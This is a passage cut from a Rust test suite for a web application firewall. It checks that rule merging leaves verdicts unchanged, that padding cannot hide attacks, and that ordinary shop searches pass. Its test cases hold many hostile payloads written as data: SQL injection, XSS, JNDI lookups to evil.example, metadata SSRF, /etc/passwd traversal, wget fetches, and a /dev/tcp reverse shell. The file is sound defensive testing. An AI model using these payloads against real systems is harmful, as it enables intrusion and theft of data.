            acl.evaluate(&Inspection::new(
                "GET",
                path,
                Some(query),
                &headers,
                b"",
                false,
                "127.0.0.1".parse().expect("address"),
            ))
        };
        let search = judge(&acl, "/search");
        assert!(!search.blocked, "{:?}", search.matches);
        assert_eq!(search.matches.len(), 1, "{:?}", search.matches);
        assert_eq!(search.matches[0].0, "SC-SQLI-003");
        assert_eq!(search.matches[0].1, RuleAction::Count);
        assert!(search.labels.iter().any(|added| added == label));
        let api = judge(&acl, "/api/orders");
        assert!(api.blocked);
        assert_eq!(api.terminating_rule.as_deref(), Some("sqli-outside-search"));
        // Without the override, the managed rule blocks by itself; scoring, a counted
        // rule adds nothing.
        let plain = acl_with(
            Vec::new(),
            &[Group::Sqli],
            Sensitivity::default(),
            &Overrides::default(),
        );
        let verdict = judge(&plain, "/search");
        assert_eq!(verdict.terminating_rule.as_deref(), Some("SC-SQLI-003"));
        let scoring = acl_with(
            Vec::new(),
            &[Group::Sqli],
            Sensitivity {
                paranoia: 1,
                anomaly_threshold: Some(5),
            },
            &overrides,
        );
        let verdict = judge(&scoring, "/search");
        assert_eq!((verdict.blocked, verdict.score), (false, 0));
        assert!(rule_ids().iter().any(|id| id == "SC-SQLI-003"));
    }

    #[test]
    fn what_the_merge_skips_could_not_have_matched() {
        // Each rule reads values that a shortcut of the merge must not skip: a value
        // whose detectable text appears only after the chain (no `<` nor `=` before URL
        // decoding), and values exactly as long as an expression's shortest match, read
        // one by one because another value of their field is one the chain changes, and
        // one that an expression written for lowercased text finds only after the chain
        // (which the merge reads blind to case, without the lowercasing).
        let rule = |id: &str, statement| Rule {
            id: id.to_owned(),
            priority: 1,
            statement,
            action: RuleAction::Count,
            labels: Vec::new(),
            response: None,
            score: 0,
        };
        let expression = |field, pattern, transforms: &[Transform]| {
            Statement::regex(field, pattern, transforms).expect("pattern")
        };
        let rules = || {
            vec![
                rule(
                    "xss-decoded",
                    Statement::Xss {
                        field: header("x-note"),
                        transforms: vec![UrlDecodeUni],
                    },
                ),
                rule(
                    "sqli-decoded",
                    Statement::Sqli {
                        field: header("x-note"),
                        transforms: vec![UrlDecodeUni, HtmlEntityDecode],
                    },
                ),
                rule(
                    "shortest",
                    expression(header("x-word"), "abc|xyzzy", &[UrlDecodeUni]),
                ),
                rule(
                    "shortest-after",
                    expression(header("x-word"), "^def$", &[UrlDecodeUni, Lowercase]),
                ),
                // A repetition of what matches nothing: its syntax tree tells no
                // shortest match, and the expression matches `/admin`.
                rule(
                    "shortest-unknown",
                    expression(header("x-path"), "^/admin[a&&b]*$", &[]),
                ),
                // A rate-based statement counts every request it sees, whatever the
                // expression beside it: with a limit of 1, the second request is over.
                rule(
                    "counted",
                    Statement::And(vec![
                        Statement::RateBased {
                            rate: std::sync::Arc::new(crate::rate::RateLimit::new(
                                1,
                                std::time::Duration::from_secs(60),
                                vec![crate::rate::AggregateKey::ClientIp],
                            )),
                            scope_down: None,
                        },
                        expression(header("x-word"), "zzz", &[]),
                    ]),
                ),
            ]
        };
        let merged = WebAcl::new(rules(), false);
        let alone = WebAcl::new(rules(), false).unmerged();
        type Headers<'a> = &'a [(&'a str, &'a str)];
        let cases: [(Headers, &[&str]); 7] = [
            (
                &[("x-note", "%3Cscript%3Ealert(1)%3C/script%3E")],
                &["xss-decoded"],
            ),
            (
                &[("x-note", "1&#39; OR &#39;1&#39;&#61;&#39;1")],
                &["sqli-decoded"],
            ),
            (&[("x-word", "a+b"), ("x-word", "abc")], &["shortest"]),
            (
                &[("x-word", "a+b"), ("x-word", "D%45f")],
                &["shortest-after"],
            ),
            (&[("x-word", "a+b"), ("x-word", "ab")], &[]),
            (&[("x-path", "/admin")], &["shortest-unknown"]),
            // The rate-based rule has seen every request before: this one is over.
            (&[("x-word", "zzz")], &["counted"]),
        ];
        for (headers, expected) in cases {
            let mut map = HeaderMap::new();
            for (name, value) in headers {
                map.append(
                    http::HeaderName::from_static(name),
                    value.parse().expect("value"),
                );
            }
            let inspection = || {
                Inspection::new(
                    "GET",
                    "/",
                    None,
                    &map,
                    b"",
                    false,
                    "127.0.0.1".parse().expect("address"),
                )
            };
            let verdict = merged.evaluate(&inspection());
            assert_eq!(verdict, alone.evaluate(&inspection()), "{headers:?}");
            let matched: Vec<&str> = verdict.matches.iter().map(|(id, ..)| id.as_str()).collect();
            assert_eq!(matched, expected, "{headers:?}");
        }
    }

    #[test]
    fn merging_the_expressions_changes_no_verdict() {
        let queries = [
            "q=red+wool+coat&category=women&page=2&per_page=24&sort=price",
            "q=1%27%20OR%20%271%27%3D%271",
            "id=1%20UNION%20ALL%20SELECT%20password%20FROM%20users",
            "q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
            "q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
            "url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F",
            "file=..%2F..%2F..%2Fetc%2Fpasswd&x=/etc/shadow",
            "host=example.com%3B%20uname%20-a&y=%24(whoami)",
            "u=Invoke-WebRequest%20http://example.com/x.ps1",
            "c=java.util.HashMap&d=class.module.classLoader.x",
            "page=php%3A%2F%2Ffilter%2Fresource%3Dindex&x=system(%27id%27)",
            "q=1%20and%20xmltype(1)&r=%27%7B%22a%22%3A1%7D%27%3A%3Ajsonb",
            "q=women%27s+shoes+(red)&sort=price%7Cdesc",
            "a=%00b&c=%25zz&%3Cscript%3E=1",
        ];
        let forms = [
            "",
            "email=ada%40example.com&name=Ada+O%27Brien&review=Lovely+coat%2C+5%2F5%21",
            "comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E&x=1+or+1%3D1",
            "cmd=cat+%2Fetc%2Fpasswd%3B+wget+http%3A%2F%2Fevil.example%2Fx",
        ];
        let agents = [
            "Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0",
            "Mozilla/5.0' OR 1=1-- ",
            "sqlmap/1.7",
        ];
        // An operator's expressions under NOT, AND and a rate-based scope-down, before and
        // after the managed groups (each ACL with its own counts).
        let operator = || {
            let rule = |id: &str, priority, statement, action| Rule {
                id: id.to_owned(),
                priority,
                statement,
                action,
                labels: vec![format!("op:{id}")],
                response: None,
                score: 0,
            };
            let expression = |field, pattern, transforms: &[Transform]| {
                Statement::regex(field, pattern, transforms).expect("pattern")
            };
            vec![
                rule(
                    "no-browser",
                    1,
                    Statement::Not(Box::new(expression(
                        header("user-agent"),
                        "(?i)mozilla|curl",
                        &[],
                    ))),
                    RuleAction::Count,
                ),
                rule(
                    "shoes",
                    2,
                    Statement::And(vec![
                        expression(Field::AllQueryArguments, "shoes", &[Lowercase]),
                        expression(Field::UriPath, "^/search", &[]),
                    ]),
                    RuleAction::Count,
                ),
                rule(
                    "reviews",
                    3,
                    Statement::RateBased {
                        rate: std::sync::Arc::new(crate::rate::RateLimit::new(
                            5,
                            std::time::Duration::from_secs(60),
                            vec![crate::rate::AggregateKey::ClientIp],
                        )),
                        scope_down: Some(Box::new(expression(
                            Field::BodyFields,
                            "(?i)coat|passwd",
                            &[UrlDecodeUni],
                        ))),
                    },
                    RuleAction::Block,
                ),
                rule(
                    "injected-get",
                    11,
                    Statement::And(vec![
                        Statement::Label("securecart:managed:sql-injection:SC-SQLI-001".into()),
                        expression(Field::Method, "^GET$", &[]),
                    ]),
                    RuleAction::Count,
                ),
            ]
        };
        for (paranoia, anomaly_threshold) in [(1, None), (2, Some(5)), (4, Some(5))] {
            let build = || {
                acl_with(
                    operator(),
                    &Group::ALL,
                    Sensitivity {
                        paranoia,
                        anomaly_threshold,
                    },
                    &Overrides {
                        managed_priority: Some(5),
                        count: vec!["SC-SQLI-001".to_owned()],
                        default_block: false,
                        default_response: None,
                        groups: Vec::new(),
                    },
                )
            };
            let merged = build();
            let (statements, sets, unbuilt) = merged.merged().counts();
            assert!(
                statements > 50 && sets > 5 && unbuilt == 0,
                "{statements} statements in {sets} sets, {unbuilt} sets not built"
            );
            let alone = build().unmerged();
            let mut seen = std::collections::BTreeSet::new();
            for query in queries {
                for form in forms {
                    for agent in agents {
                        let mut headers = HeaderMap::new();
                        headers.insert("user-agent", agent.parse().expect("value"));
                        headers.insert("cookie", "session=abc; theme=dark".parse().expect("value"));
                        if !form.is_empty() {
                            headers.insert(
                                "content-type",
                                "application/x-www-form-urlencoded".parse().expect("value"),
                            );
                        }
                        let inspection = || {
                            Inspection::new(
                                if form.is_empty() { "GET" } else { "POST" },
                                "/search",
                                Some(query),
                                &headers,
                                form.as_bytes(),
                                false,
                                "127.0.0.1".parse().expect("address"),
                            )
                        };
                        let verdict = merged.evaluate(&inspection());
                        assert_eq!(
                            verdict,
                            alone.evaluate(&inspection()),
                            "level {paranoia}: {query} / {form} / {agent}"
                        );
                        for (id, _, _) in &verdict.matches {
                            seen.insert(id.clone());
                        }
                    }
                }
            }
            // Every operator rule matched somewhere, and so did managed rules of every
            // group.
            for id in ["no-browser", "shoes", "reviews", "injected-get"] {
                assert!(seen.contains(id), "level {paranoia}: {id} never matched");
            }
            for family in [
                "SC-CORE", "SC-SQLI", "SC-XSS", "SC-KBI", "SC-CMD", "SC-PHP", "SC-JAVA",
            ] {
                assert!(
                    seen.iter().any(|id| id.starts_with(family)),
                    "level {paranoia}: no {family} rule matched: {seen:?}"
                );
            }
        }
    }

    #[test]
    fn rules_taken_into_another_acl_are_merged_again() {
        // The statements carry their places in the first ACL's merge; the second ACL
        // places them anew, and an ACL whose merge is gone scans each alone.
        let first = acl(&Group::ALL);
        let second = WebAcl::new(first.rules().to_vec(), false);
        let alone = first.clone().unmerged();
        assert_eq!(first.merged().counts().0, second.merged().counts().0);
        for query in [
            "q=red+wool+coat",
            "q=1%27%20OR%20%271%27%3D%271",
            "x=%3Csvg%2Fonload%3Dalert(1)%3E",
            "f=%2Fetc%2Fpasswd",
            "x=FOOgzinflate()",
        ] {
            let headers = HeaderMap::new();
            let inspection = || {
                Inspection::new(
                    "GET",
                    "/search",
                    Some(query),
                    &headers,
                    b"",
                    false,
                    "127.0.0.1".parse().expect("address"),
                )
            };
            let verdict = alone.evaluate(&inspection());
            assert_eq!(first.evaluate(&inspection()), verdict, "{query}");
            assert_eq!(second.evaluate(&inspection()), verdict, "{query}");
        }
    }

    #[test]
    fn hidden_files_are_refused_but_the_well_known_uris() {
        let acl = default_acl();
        let blocked = |path: &str| {
            let mut headers = HeaderMap::new();
            headers.insert("user-agent", "Mozilla/5.0".parse().expect("value"));
            headers.insert("accept", "*/*".parse().expect("value"));
            acl.evaluate(&Inspection::new(
                "GET",
                path,
                None,
                &headers,
                b"",
                false,
                "127.0.0.1".parse().expect("address"),
            ))
            .blocked
        };
        for path in [
            "/.git/config",
            "/.claude/settings.json",
            "/app/.cursor/mcp.json",
            "/%2Eenv",
        ] {
            assert!(blocked(path), "{path}");
        }
        for path in [
            "/.well-known/apple-developer-merchantid-domain-association",
            "/static/app.js",
            "/images/coat.v2.jpg",
            "/get/..foo",
        ] {
            assert!(!blocked(path), "{path}");
        }
    }

    #[test]
    fn attacks_of_every_family_are_blocked_by_their_rule() {
        let browser = "Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0";
        let cases = [
            ("q=1234%20OR%201%3D1", "SC-SQLI"),
            ("q=-1839%27%20or%20%271%27%3D%271", "SC-SQLI"),
            (
                "id=1%20UNION%20ALL%20SELECT%20password%20FROM%20users",
                "SC-SQLI",
            ),
            ("id=1;%20DROP%20TABLE%20orders", "SC-SQLI"),
            ("q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "SC-XSS"),
            ("q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", "SC-XSS"),
            ("next=javascript:alert(document.cookie)", "SC-XSS"),
            (
                "q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
                "SC-KBI-001",
            ),
            (
                "url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F",
                "SC-KBI-002",
            ),
            ("file=..%2F..%2F..%2Fetc%2Fpasswd", "SC-KBI-003"),
            ("file=%252e%252e%252fetc%252fpasswd", "SC-KBI-003"),
            ("file=/etc/shadow", "SC-KBI-004"),
            ("include=http%3A%2F%2F10.0.0.1%2Fshell.txt%3F", "SC-KBI-005"),
            (
                "src=https://2001:41d0:701:1100::29c8/gecko.php",
                "SC-KBI-005",
            ),
            ("host=example.com%3B%20uname%20-a", "SC-CMD"),
            ("host=%24(whoami)", "SC-CMD"),
            ("cmd=%7C%20powershell%20-enc%20abc", "SC-CMD"),
            ("f=cat%20/etc/pa%5Bs%5Dswd", "SC-CMD"),
            ("u=Invoke-WebRequest%20http://example.com/x.ps1", "SC-CMD"),
            ("c=%26%20FOR%20%25a%20IN%20(a,b)%20DO%20cmd", "SC-CMD"),
            ("c=java.util.HashMap", "SC-JAVA"),
            ("phpsessid=0123456789abcdef", "SC-KBI"),
            ("q=1%20and%20xmltype(1)", "SC-SQLI"),
            ("q=%27%7B%22a%22%3A1%7D%27%3A%3Ajsonb", "SC-SQLI"),
            ("page=php%3A%2F%2Ffilter%2Fresource%3Dindex", "SC-PHP-001"),
            ("x=system(%27id%27)", "SC-PHP-002"),
            ("x=java.lang.Runtime.getRuntime().exec(%27id%27)", "SC-"),
            (
                "class.module.classLoader.resources.context=x",
                "SC-JAVA-001",
            ),
            ("x=%7B%22__proto__%22%3A%7B%7D%7D", "SC-JAVA-002"),
            ("x=FOOgzinflate()", "SC-PHP-005"),
            ("foo=filegroup%20%23c%0d%0a%20%28blah%29", "SC-PHP-005"),
            ("foo=%5Bphp%5Decho%20%22test%22", "SC-PHP-006"),
            ("code=memory_limit%20%3D%20512M", "SC-PHP-007"),
            ("x=%28sy.%28st%29.em%29%28%27uname%27%29", "SC-PHP-008"),
            ("code=%22%5Cx73y%5Cx73tem%22%28ls%29%3B", "SC-PHP-008"),
            (
                "x=%28%5Bsystem%5D%5B0%5D%29%7B%2F*+c+*%2F0%7D%28ls%29%3B",
                "SC-PHP-008",
            ),
            ("arg=%3Btrap%20%27rm%20-rf%20x%27%20SIGEXIT", "SC-CMD-010"),
            ("code=cd+%2F%3Bcd+etc%3Bcolumn+passwd", "SC-CMD-010"),
            (
                "cmd=d%3D%2Fdev%26%26(sh)0%3E%24d%2Ftcp%2F1.2.3.4%2F7",
                "SC-CMD",
            ),
            (
                "q=%24%26lcub%3Bj%26%23110%3Bdi%3Aldap%3A%2F%2Fx%7D",
                "SC-KBI-001",
            ),
            ("q=%24%26lbracejndi%3Aldap%3A%2F%2Fx%7D", "SC-KBI-001"),
            ("testarg=%5Cu0061lert", "SC-CORE-023"),
            ("id=%2BADw-script%2BAD4-alert(1)", "SC-XSS-002"),
            ("id=%252bADw-script%252bAD4-", "SC-XSS-002"),
            ("foo=%24%20%7B%27fdf%27%7D", "SC-PHP-008"),
            ("foo=%24__%5B%24_%5B1%5D%5D%287%29", "SC-PHP-008"),
            ("var=opcache.jit_max_polymorphic_calls%3d50", "SC-PHP-007"),
            ("x=$_SERVER['test'];", "SC-PHP-003"),
            ("var=php%3A%2F%2Fstdout", "SC-PHP-001"),
            ("foo=process%5BmainModule", "SC-KBI-007"),
            ("foo=XyQkTkRfRlVOQyQkXwo%3D", "SC-KBI-007"),
            (
                "foo=XyQkXHUwMDRlXHUwMDQ0X0ZVTkMkJF9cdTAwNjZ1bmN0aW9uKCkK",
                "SC-KBI-007",
            ),
            ("x=constructor.prototype.test", "SC-JAVA-002"),
            ("x=http%3A127.0.0.1", "SC-KBI-005"),
            ("x=data%3Atext%2Fplain", "SC-KBI-005"),
            ("eval=while(!0)%3B", "SC-KBI-00"),
            ("url=host.docker.internal%2F", "SC-KBI-009"),
            ("x=%7B%7B7*7%7D%7D", "SC-KBI-010"),
            ("a=%28document%29%5B%22cookie%22%5D", "SC-XSS-004"),
            ("foo=document.querySelector(%22p%22)", "SC-XSS-004"),
            ("a=(!%5B%5D%2B%5B%5D)%5B%2B!%2B%5B%5D%5D", "SC-XSS-004"),
            ("%20%20onabcdefgh%3D%20=x", "SC-XSS-004"),
            ("foo=bar%3Cf%20o%20r%20m", "SC-XSS-004"),
            ("body=%3C%20x%3A%20script", "SC-XSS-004"),
            ("a=%3C%3Avmlframe%20src%3D", "SC-XSS-004"),
            ("pay=strcmp%28", "SC-SQLI-005"),
            ("x=current_user%28%0A", "SC-SQLI-005"),
            ("x=concat+%28", "SC-SQLI-005"),
            ("db=msdb", "SC-SQLI-004"),
            (
                "id=OR%20%27%7B%22a%22%3A%22b%22%7D%27%20%3F%20%27a%27",
                "SC-SQLI-006",
            ),
            ("user%5B%24ne%5D=admin", "SC-SQLI-007"),
            ("email=admin%40juice-sh.op%27%3B", "SC-SQLI-008"),
            ("a=%2FCREATE+TABLE+Persons", "SC-SQLI-009"),
            // Forms the rules kept when they were made to let prose through.
            ("q=select+password+as+p+from+users", "SC-SQLI"),
            ("q=delete+from+users+where+1", "SC-SQLI"),
            (
                "q=update+users+set+role%3Dadmin+where+id+is+null",
                "SC-SQLI",
            ),
            ("q=select+x+from+t+where+not+exists+(select+1)", "SC-SQLI"),
            ("x=system(id)", "SC-PHP"),
            ("x=readfile(__FILE__)", "SC-PHP"),
            ("x=readfile%20%20(__FILE__)", "SC-PHP"),
            ("x=system%20(%27id%27)", "SC-PHP"),
            ("x=%7Bl%2C-lh%7Ds", "SC-CMD-009"),
            ("rce=alias%20a=b", "SC-CMD-009"),
            ("code=%24SHELL%20-c%20%22echo%20hi%22", "SC-CMD"),
            ("x=%2Fsys%2Fclass%2Fnet", "SC-KBI-012"),
            ("filter=value)(gidNumber%3C%3D100", "SC-CORE-019"),
            (
                "arg1=GET%20http%3A%2F%2Fwww.foo.bar%20HTTP%2F1.1",
                "SC-CORE-018",
            ),
            ("x=org.omg.CORBA", "SC-JAVA-004"),
            ("connect.sid=s%3Aj8jK9_xPq2", "SC-KBI-006"),
            ("x=a%20%7C%20cat%20%2Fetc%2Fhostname", "SC-CMD"),
            ("x=a%7Cid", "SC-CMD-001"),
            ("file=compress.bzip2%3A%2F%2Ffile.bz2", "SC-PHP-001"),
            (
                "file=ssh2.exec%3A%2F%2Fuser%40example.com%3A22%2Fbin",
                "SC-PHP-001",
            ),
            ("_CONF[path]=https%3A%2F%2Ffoo.bar", "SC-KBI-014"),
            ("mosConfig_absolute_path=http://foo.bar", "SC-KBI-014"),
            ("id=password%3A%3Aint", "SC-SQLI-011"),
            ("id=div+(23.23+,+2)", "SC-SQLI-011"),
            ("id=lo_get(16400)", "SC-SQLI-011"),
            ("id=1::%20int4", "SC-SQLI-011"),
            ("id=%27a%27::boolean", "SC-SQLI-011"),
            ("x=a%26ping.exe%20-n%2020%20127.0.0.1", "SC-CMD-001"),
            (
                "x=a%26ping%25CommonProgramFiles:~10,-18%25127.0.0.1",
                "SC-CMD-001",
            ),
            ("x=a%3Bnc.openbsd%20-lvp%204444", "SC-CMD-001"),
            ("mosConfig.absolute.path=http://foo.bar", "SC-KBI-014"),
            // A command word ended as a shell ends it (`COMMAND_END`).
            ("x=a%3Bcat%24u%20%2Fetc%24u%2Fpasswd", "SC-CMD-001"),
            ("x=a%26id%3C%2Fdev%2Fnull", "SC-CMD-001"),
            ("x=a%7Cls%29", "SC-CMD-001"),
            ("x=%40%7B%5Bopen%20F%2C%27%7Cls%27%5D%7D", "SC-CMD-001"),
            ("x=a%0Als%20-la", "SC-CMD-001"),
            ("x=a%0Acat%20-n%20x", "SC-CMD-001"),
            ("x=type%20c%3A%5Cwindows%5Cwin.ini", "SC-"),
            ("x=a%26type%20secrets.txt", "SC-CMD-003"),
            ("parameter%0d%0a=test", "SC-CORE-022"),
            ("unix%3AAAAAAAAAA|http://example.com/", "SC-CORE-022"),
            ("a=..;.%5C.;%5C.", "SC-KBI-013"),
            ("code=time+ifconfig%0A", "SC-CMD-010"),
            ("code=ti%27%27me+sh+-c+whoami", "SC-CMD-010"),
            ("test=%7C%24u%20wget%20test", "SC-CMD-010"),
            ("arg=%3Bgcc10.1%3C%3C%3Cvoid+main%28%29%7B%7D", "SC-CMD-010"),
            ("code=%27cscli%27+alerts+list", "SC-CMD-010"),
            ("cmd=python3.10%20cmd", "SC-CMD-010"),
            ("x=%7E%2B", "SC-CMD-012"),
            ("rce=alias+%2Bm+a%3Db", "SC-CMD"),
            ("arg=%28%29%20%7B", "SC-CMD-012"),
            ("var=EXECUTE%20IMMEDIATE%20%22", "SC-SQLI-010"),
            ("pay=declare+%40b%0A", "SC-SQLI-010"),
            ("code=backup.sql.zip", "SC-KBI-004"),
            ("cmd=%2Fbin%2Fab", "SC-CMD-009"),
            (
                "var=%3Cinput+pattern%3D%22%5Ea+regex%24%22%3E",
                "SC-XSS-003",
            ),
            ("x=%21ENTITY%20%25%20bar%20SYSTEM", "SC-XSS-004"),
            (
                "test=%5Cxbctest%5Cxbetest%28%5Cxa2XSS%5Cxa2%29%5Cxbc%2Ftest%5Cxbe",
                "SC-XSS-004",
            ),
            ("x=a%3Bset", "SC-CMD-013"),
            ("payload=%5Cls", "SC-CMD-013"),
            ("x=a%3Bhost%27name", "SC-CMD-013"),
            ("x=a%3Bhostname%3B", "SC-CMD-013"),
            ("x=%24(%20whoami%20)", "SC-CMD"),
            ("x=a%3B%20hostname", "SC-CMD-013"),
            ("x=a%7Creboot", "SC-CMD-013"),
            ("x=a%0Asleep%205", "SC-CMD-001"),
            ("x=a%0Aping%20attacker.example", "SC-CMD-001"),
            ("x=a%0Akill%209%201", "SC-CMD-001"),
            ("x=a%0Aid%23", "SC-CMD-001"),
            ("x=a%0Acat%24IFS/etc/passwd", "SC-"),
            ("x=a%0A/bin/cat%20x", "SC-CMD-001"),
            ("x=a%26type%20..%5C..%5Cwindows%5Cwin.ini", "SC-"),
            ("x=a%26type%20notes.txt", "SC-CMD-003"),
            ("x=a%7C%7C%20whoami", "SC-CMD"),
        ];
        for (query, family) in cases {
            let verdict = verdict(Some(query), None, browser);
            assert!(verdict.blocked, "{query} passed");
            let rule = verdict.terminating_rule.expect("a rule decided");
            assert!(rule.starts_with(family), "{query}: {rule}, not {family}");
        }
        let scanner = verdict(
            Some("q=shoes"),
            None,
            "sqlmap/1.7.2#stable (https://sqlmap.org)",
        );
        assert_eq!(scanner.terminating_rule.as_deref(), Some("SC-CORE-002"));
        let posted = verdict(None, Some("var=1234+OR+1%3D1"), browser);
        assert!(posted.blocked, "form bodies are inspected");
        // A form's `_charset_` naming a charset that hides text; the usual ones pass.
        let posted = verdict(None, Some("_charset_=utf-7&review=%2BADw-"), browser);
        assert_eq!(posted.terminating_rule.as_deref(), Some("SC-CORE-021"));
        let form = verdict(None, Some("_charset_=UTF-8&name=Ada"), browser);
        assert!(!form.blocked, "{:?}", form.matches);
        let posted = verdict(None, Some("_charset_=%22utf-7%22"), browser);
        assert_eq!(posted.terminating_rule.as_deref(), Some("SC-CORE-021"));
        // A remote inclusion posted: the parameter's name and a URL among the values.
        let posted = verdict(
            None,
            Some("appserv_root=https%3A%2F%2Ffoo.bar%2Fshell.txt&go=1"),
            browser,
        );
        assert_eq!(posted.terminating_rule.as_deref(), Some("SC-KBI-014"));
        let form = verdict(
            None,
            Some("root=%2Fshop&site=https%3A%2F%2Fshop.example"),
            browser,
        );
        assert!(!form.blocked, "{:?}", form.matches);
        // An event handler in a header a page may echo.
        let mut headers = HeaderMap::new();
        headers.insert("user-agent", browser.parse().expect("value"));
        headers.insert("remote-ip", "' onselect=alert(1) '".parse().expect("value"));
        let verdict = judged("GET", "/", None, &headers, b"");
        assert_eq!(verdict.terminating_rule.as_deref(), Some("SC-XSS-006"));
    }

    /// An attack behind 200 harmless cookies, or behind 8 KiB of other headers, is past
    /// what the rules read, and blocked for that (SC-CORE-025); a shop's long cookies
    /// within the limits are not.
    #[test]
    fn padding_does_not_hide_an_attack() {
        use crate::inspect::{MOST_INSPECTED, MOST_INSPECTED_BYTES};
        let browser =
            "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_0) AppleWebKit/605.1.15 Safari/605.1.15";
        let with = |pairs: &[(&str, String)]| {
            let mut headers = HeaderMap::new();
            headers.insert("user-agent", browser.parse().expect("value"));
            headers.insert("accept", "text/html".parse().expect("value"));
            for (name, value) in pairs {
                headers.append(
                    http::HeaderName::from_bytes(name.as_bytes()).expect("name"),
                    value.parse().expect("value"),
                );
            }
            judged("GET", "/", None, &headers, b"")
        };
        let cookies = |count: usize, last: &str| {
            (0..count)
                .map(|at| format!("pref{at}=a{at}"))
                .chain([last.to_owned()])
                .collect::<Vec<_>>()
                .join("; ")
        };
        let attack = "q=1' union select password from users--";
        assert_eq!(
            with(&[("cookie", cookies(3, attack))])
                .terminating_rule
                .as_deref()
                .map(|rule| rule.starts_with("SC-SQLI")),
            Some(true)
        );
        let hidden = with(&[("cookie", cookies(MOST_INSPECTED, attack))]);
        assert_eq!(hidden.terminating_rule.as_deref(), Some("SC-CORE-025"));
        let padded = with(&[
            ("x-padding", "p".repeat(MOST_INSPECTED_BYTES)),
            (
                "x-api-version",
                "${jndi:ldap://attacker.example/a}".to_owned(),
            ),
        ]);
        assert_eq!(padded.terminating_rule.as_deref(), Some("SC-CORE-025"));
        // 7 KiB of analytics cookies and 2 KiB of other headers: each within its limit.
        let token = "GA1.2.1234567890.1700000000";
        let long = (0..)
            .map(|at| format!("_ga_{at}={token}"))
            .take_while(|_| true)
            .scan(0, |length, cookie| {
                *length += cookie.len() + 2;
                (*length < 7 * 1024).then_some(cookie)
            })
            .collect::<Vec<_>>()
            .join("; ");
        let shop = with(&[("cookie", long), ("x-client-state", "s".repeat(2048))]);
        assert!(!shop.blocked, "{:?}", shop.matches);
        // In an ACL that scores, too, whatever its threshold: what hides past the limits
        // would never add its own score.
        let scoring = acl_with(
            Vec::new(),
            &Group::ALL,
            Sensitivity {
                paranoia: 1,
                anomaly_threshold: Some(25),
            },
            &Overrides::default(),
        );
        let mut headers = HeaderMap::new();
        headers.insert("user-agent", browser.parse().expect("value"));
        headers.insert(
            "cookie",
            cookies(MOST_INSPECTED, attack).parse().expect("value"),
        );
        let client = "127.0.0.1".parse().expect("address");
        let verdict = scoring.evaluate(&Inspection::new(
            "GET", "/", None, &headers, b"", false, client,
        ));
        assert!(verdict.blocked, "{:?}", verdict.matches);
        assert_eq!(verdict.terminating_rule.as_deref(), Some("SC-CORE-025"));
    }

    #[test]
    fn none_of_matches_every_token_but_its_words() {
        // As statements build their expressions: on bytes, ASCII classes.
        let expression =
            regex::bytes::RegexBuilder::new(&format!(r"(?i)^(?:{})", none_of(ALLOWED_CHARSETS)))
                .unicode(false)
                .build()
                .expect("expression");
        for (token, other) in [
            ("utf-8", false),
            ("UTF-8", false),
            ("iso-8859-1", false),
            ("iso-8859-15", false),
            ("Windows-1252", false),
            ("utf-8;q=1", false),
            ("utf", true),
            ("utf-", true),
            ("utf-88", true),
            ("iso-8859-2", true),
            ("iso-8859-150", true),
            ("windows-1251", true),
            ("cp1026", true),
            ("x", true),
        ] {
            assert_eq!(expression.is_match(token.as_bytes()), other, "{token}");
        }
    }

    #[test]
    fn ordinary_shop_traffic_is_never_blocked() {
        let browser =
            "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_0) AppleWebKit/605.1.15 Safari/605.1.15";
        let queries = [
            "q=women%27s+shoes",
            "q=%22red+dress%22",
            "q=O%27Brien",
            "q=rock+%26+roll+t-shirt",
            "q=100%25+cotton",
            "q=size+10+%2F+11",
            "q=select+a+size+from+the+list",
            "review=Works+with+any+heating+system+%28gas+or+electric%29.",
            "review=Keeps+all+my+recipes+in+one+database+%28about+300+of+them%29.",
            "review=Bought+two+as+gifts+from+the+Christmas+list.",
            "review=Made+of+fibres+such+as+wool+from+New+Zealand.",
            "review=Select+the+size+from+the+chart+where+it+says+your+chest+size.",
            "review=I+had+to+update+my+order+from+last+week%2C+where+the+colour+was+wrong.",
            "review=Delete+the+old+app+from+your+phone%2C+then+select+a+new+one+from+the+list+where+it+says+Shop.",
            "review=Insert+the+batteries+into+the+remote+and+set+the+timer%2C+where+needed.",
            "review=Select+from+the+range+where+you+like+the+blue+best.",
            "q=drop+earrings",
            "q=union+jack+mug",
            "q=C%2B%2B+book",
            "q=what%27s+new",
            "q=1%2F2+price",
            "q=caf%C3%A9+au+lait",
            "q=email%3A+ada%40example.com",
            "page=2&per_page=50&sort=price&order=desc",
            "category=home-%26-garden",
            "utm_source=newsletter&utm_medium=email&utm_campaign=black-friday",
            "redirect=%2Fcheckout",
            "q=javascript+for+kids",
            "q=script+writing+kit",
            "q=The+%3Cb%3Ebest%3C%2Fb%3E+deals",
            "q=it%27s+a+50%2F50+chance",
            "q=ls+cable",
            "q=cat+toy",
            "q=file+(pdf)",
            "q=usb+cable+(2+pack)",
            "q=cotton+(100%25)+(machine+washable)",
            "q=print+(a4)+paper",
            "q=exp+(date)",
            "q=worn+every+day+while+(2+weeks)+traveling",
            "q=localhost+coffee+mugs",
            "q=mouse+trap+-+humane",
            "comment=Keeps+mice+away%3B+trap+them+humanely+and+exit+quietly",
            "q=cd+player%3B+portable",
            "q=cd+%2F+dvd+rack",
            "q=%22hello%22+(world)",
            "q=Vinyl%2C+tapes+%26+CD+etc.",
            "q=Books%3B+CD+etc.",
            "comment=Great+throughput+over+HTTP%2F2",
            "comment=Fast+output+via+HTTP%2F1.1%2C+target+page+http%2F2",
            "q=%7B%7Bname%7D%7D+template+cards",
            "q=onion+rings",
            "q=floral+pattern",
            "q=Type+C+cable",
            "q=type+2+charger",
            "pattern=floral&sort=last",
            "q=tea+set",
            "q=pots+%26+pans+set",
            "q=headset+%26+ps",
            "q=lego+%26+set",
            "q=tea+%7C+set",
            "q=cups%3B+set",
            "q=Knife+Block+%7C+Set",
            "msg=Happy+birthday%21%0D%0ALove%2C%0D%0ALS",
            "msg=Love%2C%0ARuby",
